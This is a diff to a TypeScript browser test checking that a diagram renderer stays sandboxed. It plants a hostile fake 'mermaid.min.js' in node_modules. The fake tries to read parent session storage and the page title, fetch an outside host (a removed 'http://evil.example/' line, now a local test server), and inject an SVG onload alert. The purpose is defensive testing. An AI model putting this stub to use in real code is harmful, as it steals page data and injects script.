@@ -1,5 +1,7 @@
+import { once } from 'node:events';
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
-import { get } from 'node:http';
+import { createServer, get } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { networkInterfaces, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
@@ -333,13 +335,13 @@ flowchart TB
 \`\`\`
 `;
 /** Stands where a project has mermaid, and tries to get out of where it is run. */
-const hostileMermaid = `globalThis.mermaid = {
+const hostileMermaid = (elsewhere: string) => `globalThis.mermaid = {
   initialize() {},
   async render(id, source) {
     const got = [];
     for (const steal of [() => parent.sessionStorage.secret, () => parent.document.title, () => sessionStorage.length])
       try { got.push(String(steal())); } catch {}
-    for (const name of ['/', 'http://evil.example/'])
+    for (const name of ['/', '${elsewhere}'])
       await fetch(name, { mode: 'no-cors' }).then(() => got.push(name), () => {});
     const text = got.length === 0 ? source : 'stolen ' + got;
     return { svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 80 40" onload="alert(1)"><text y="9">' + text.replace(/[<>&]/g, '') + '</text></svg>' };
@@ -353,13 +355,18 @@ test('a diagram is drawn by the mermaid of its project, which reaches nothing fr
     expect(await source.locator('figure.diagram img').count()).toBe(0);
     const folder = join(chapter.folder, 'node_modules/mermaid/dist');
     mkdirSync(folder, { recursive: true });
-    writeFileSync(join(folder, 'mermaid.min.js'), hostileMermaid);
+    // Whoever waits for what is stolen answers, and answers everybody.
+    const elsewhere = createServer((_, answer) => answer.writeHead(200, { 'access-control-allow-origin': '*' }).end());
+    await once(elsewhere.listen(0, '127.0.0.1').unref(), 'listening');
+    const { port } = elsewhere.address() as AddressInfo;
+    writeFileSync(join(folder, 'mermaid.min.js'), hostileMermaid(`http://127.0.0.1:${port}/`));
     await source.reload();
     const image = source.getByRole('img', { name: 'The way of tea' });
     await image.waitFor();
     const picture = decodeURIComponent((await image.getAttribute('src')) ?? '');
     expect(picture).toContain('Pot -- Cup');
     expect(picture).not.toContain('stolen');
+    elsewhere.close();
     expect(await image.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBeGreaterThan(0);
     expect(await hindrances(source)).toEqual([]);
   }));
